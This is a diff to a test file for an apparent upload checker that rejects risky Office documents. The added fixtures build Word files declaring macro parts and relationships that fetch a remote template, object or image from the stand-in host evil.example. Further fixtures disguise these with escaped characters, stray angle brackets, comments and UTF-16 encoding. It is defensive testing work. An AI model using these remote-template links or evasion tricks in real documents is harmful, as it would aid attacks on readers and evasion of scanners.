@@ -18,6 +18,22 @@ const embedded = (bytes: Buffer, words: string) =>
 
 const macroTypes =
   '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/x" ContentType="application/vnd.ms-office.vbaProject"/></Types>';
+/** A document that declares a part to be something. */
+const typed = (type: string) =>
+  office('docx', {
+    '[Content_Types].xml': macroTypes.replace('vbaProject', type),
+    'word/x': '<x/>',
+  });
+const link = (type: string) =>
+  `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://evil.example/t.dotm" TargetMode="External"/>`;
+/** A document with such links. */
+const linked = (links: string) =>
+  office(
+    'docx',
+    { 'word/_rels/document.xml.rels': `<Relationships>${links}</Relationships>` },
+    undefined,
+    'latin1',
+  );
 const deflated = deflatedOffice('word/document.xml', '<w:document/>'.repeat(1_000));
 /** Documents within documents. */
 const layered = (depth: number): Buffer =>
@@ -441,6 +457,41 @@ describe('office documents', () => {
       'a.docx',
       'file.active',
     ],
+    ['with a control by an escaped declaration', typed('active&#88;+xml'), 'a.docx', 'file.active'],
+    ['with a control by a hexadecimal one', typed('active&#x58;+xml'), 'a.docx', 'file.active'],
+    [
+      'with a sheet of macros',
+      office('xlsx', { 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' }),
+      'a.xlsx',
+      'file.active',
+    ],
+    ['that fetch a template', linked(link('attachedTemplate')), 'a.docx', 'file.active'],
+    ['that fetch an object', linked(link('oleObject')), 'a.docx', 'file.active'],
+    ['that fetch a picture', linked(link('image')), 'a.docx', 'file.active'],
+    [
+      'that fetch by an escaped word',
+      linked(link('frame').replace('External', 'E&#120;ternal')),
+      'a.docx',
+      'file.active',
+    ],
+    [
+      'that fetch behind a sign that ends nothing',
+      linked(link('attachedTemplate').replace('Target=', 'Id="a>b" Target=')),
+      'a.docx',
+      'file.active',
+    ],
+    [
+      'that hide a link behind a comment',
+      linked(`<!-- <Relationship " -->${link('attachedTemplate')}`),
+      'a.docx',
+      'file.broken',
+    ],
+    [
+      'with links in another alphabet',
+      linked(Buffer.from(link('attachedTemplate'), 'utf16le').toString('latin1')),
+      'a.docx',
+      'file.broken',
+    ],
     ['in four layers', layered(4), 'a.docx', 'file.broken'],
     ['under another name', office('docx'), 'a.xlsx', 'file.name'],
     ['that is only an archive', archive({ 'a.txt': 'x' }), 'a.docx', 'file.type'],
@@ -454,6 +505,8 @@ describe('office documents', () => {
   test.each([
     ['that are deflated', deflated],
     ['with a sheet inside', layered(1)],
+    ['with a link to click', linked(link('hyperlink'))],
+    ['with a link inside', linked(link('image').replace(' TargetMode="External"', ''))],
     ['whose sizes follow the data', lying(deflated, { flags: 8, localPacked: 0, localUnfolded: 0 })],
   ])('%s are taken', async (_, bytes) => {
     expect(await check(bytes)).toMatch(/wordprocessingml/);
